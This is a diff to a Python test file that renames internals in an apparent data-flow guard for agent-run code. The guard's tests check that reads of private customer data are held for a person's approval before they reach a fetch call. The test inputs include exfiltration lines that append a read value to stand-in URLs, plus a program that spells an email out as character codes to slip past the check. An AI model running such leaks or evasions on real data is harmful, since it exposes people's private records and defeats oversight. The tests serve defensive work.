@@ -24,10 +24,10 @@ FETCH = "from servers.demo import fetch_page\n"
 
 async def waits(core, session, code, state=""):
     """The run, once it waits or is over."""
-    started = core.conveyor.submit(code, session, state=state)
+    started = core.run_manager.submit(code, session, state=state)
     async with asyncio.timeout(60):
         while True:
-            run = core.conveyor.run(started.id)
+            run = core.run_manager.run(started.id)
             if run.state is RunState.WAITING or run.ended or run.pauses:
                 return run
             await asyncio.sleep(0.01)
@@ -38,9 +38,9 @@ async def asked(core, session, code, state=""):
     pauses = []
     stop = core.bus.listen(lambda event: pauses.append(event.pause) if isinstance(event, RunPaused) else None)
     person = Person(core, *[False] * 20)
-    started = core.conveyor.submit(code, session, state=state)
+    started = core.run_manager.submit(code, session, state=state)
     async with asyncio.timeout(60):
-        run = await core.conveyor.finished(started.id)
+        run = await core.run_manager.finished(started.id)
     person.leave()
     stop()
     return run, pauses
@@ -51,7 +51,7 @@ def fetched(core):
 
 
 async def test_customers_spelled_into_an_address_wait_before_anything_runs(demo):
-    run = await waits(demo, demo.rooms.sessions.open("agent"), SPELLED)
+    run = await waits(demo, demo.services.sessions.open("agent"), SPELLED)
     assert (run.state, run.verdict.risk, run.verdict.gate) == (RunState.WAITING, Risk.HIGH, Gate.ASK)
     assert "Data from demo.list_customers (line 3) goes to demo.fetch_page (url)" in run.verdict.sentence
     assert fetched(demo) == []
@@ -59,13 +59,13 @@ async def test_customers_spelled_into_an_address_wait_before_anything_runs(demo)
 
 @pytest.mark.parametrize("state", ["", "analysis"])
 async def test_what_an_earlier_program_read_is_held_on_its_way_out_in_a_later_one(demo, state):
-    agent = demo.rooms.sessions.open("agent")
+    agent = demo.services.sessions.open("agent")
     first = await waits(demo, agent, READ + NUMBERS + "open('workspace/k.txt', 'w').write(k)", state)
     if first.state is RunState.WAITING:
         person = Person(demo)
         person.decide(first)
         async with asyncio.timeout(60):
-            await demo.conveyor.finished(first.id)
+            await demo.run_manager.finished(first.id)
         person.leave()
     value = "k" if state else "open('workspace/k.txt').read()"
     run, pauses = await asked(demo, agent, f"{FETCH}await fetch_page(url='https://m.example/' + {value})", state)
@@ -80,7 +80,7 @@ async def test_what_an_earlier_program_read_is_held_on_its_way_out_in_a_later_on
 
 
 async def test_a_constant_and_what_a_public_answer_says_pass_after_private_data_was_read(demo):
-    agent = demo.rooms.sessions.open("agent")
+    agent = demo.services.sessions.open("agent")
     assert (await ran(demo, agent, READ + "print(len(rows))")).state is RunState.DONE
     code = (
         FETCH
@@ -88,7 +88,7 @@ async def test_a_constant_and_what_a_public_answer_says_pass_after_private_data_
     )
     run, pauses = await asked(demo, agent, code)
     assert (run.state, [pause.why for pause in pauses]) == (RunState.DONE, []), run.fault
-    agent = demo.rooms.sessions.open("another agent")
+    agent = demo.services.sessions.open("another agent")
     await ran(demo, agent, READ + "print(len(rows))")
     listed = "open('workspace/list.txt', 'w').write('https://carrier.example/status')"
     person = Person(demo)
@@ -100,7 +100,7 @@ async def test_a_constant_and_what_a_public_answer_says_pass_after_private_data_
 
 
 async def test_a_session_that_read_nothing_private_follows_a_file(demo):
-    agent, person = demo.rooms.sessions.open("agent"), Person(demo)
+    agent, person = demo.services.sessions.open("agent"), Person(demo)
     await ran(demo, agent, "open('workspace/list.txt', 'w').write('https://carrier.example/status')")
     run = await ran(demo, agent, FETCH + "await fetch_page(url=open('workspace/list.txt').read())")
     assert (run.state, person.pauses) == (RunState.DONE, [])
@@ -108,11 +108,11 @@ async def test_a_session_that_read_nothing_private_follows_a_file(demo):
 
 
 async def test_another_connection_of_the_same_name_has_read_what_the_first_one_read(demo):
-    await ran(demo, demo.rooms.sessions.open("agent"), "1")
-    first, second = demo.rooms.sessions.open("agent"), demo.rooms.sessions.open("agent")
-    demo.rooms.sessions.named(first, "robot")
+    await ran(demo, demo.services.sessions.open("agent"), "1")
+    first, second = demo.services.sessions.open("agent"), demo.services.sessions.open("agent")
+    demo.services.sessions.named(first, "robot")
     await ran(demo, first, READ + "print(len(rows))")
-    demo.rooms.sessions.named(second, "robot")
+    demo.services.sessions.named(second, "robot")
     run, pauses = await asked(
         demo, second, FETCH + "import time\nawait fetch_page(url='https://m/' + open('workspace/x').read())"
     )
@@ -126,7 +126,7 @@ async def test_another_connection_of_the_same_name_has_read_what_the_first_one_r
 
 
 async def test_a_program_that_spells_a_value_to_its_agent_waits(demo):
-    agent = demo.rooms.sessions.open("agent")
+    agent = demo.services.sessions.open("agent")
     run = await waits(demo, agent, READ + "print([ord(x) for x in rows[0]['email']])")
     assert run.state is RunState.WAITING
     (found,) = [finding for finding in run.verdict.findings if finding.rule == "flow.spelled"]
@@ -134,7 +134,7 @@ async def test_a_program_that_spells_a_value_to_its_agent_waits(demo):
 
 
 async def test_a_page_may_be_asked_again_though_it_repeats_its_own_address(demo):
-    agent = demo.rooms.sessions.open("agent")
+    agent = demo.services.sessions.open("agent")
     await ran(demo, agent, READ + "print(len(rows))")
     page = FETCH + "print((await fetch_page(url='https://prices.example/paper'))['url'])"
     for _ in range(2):
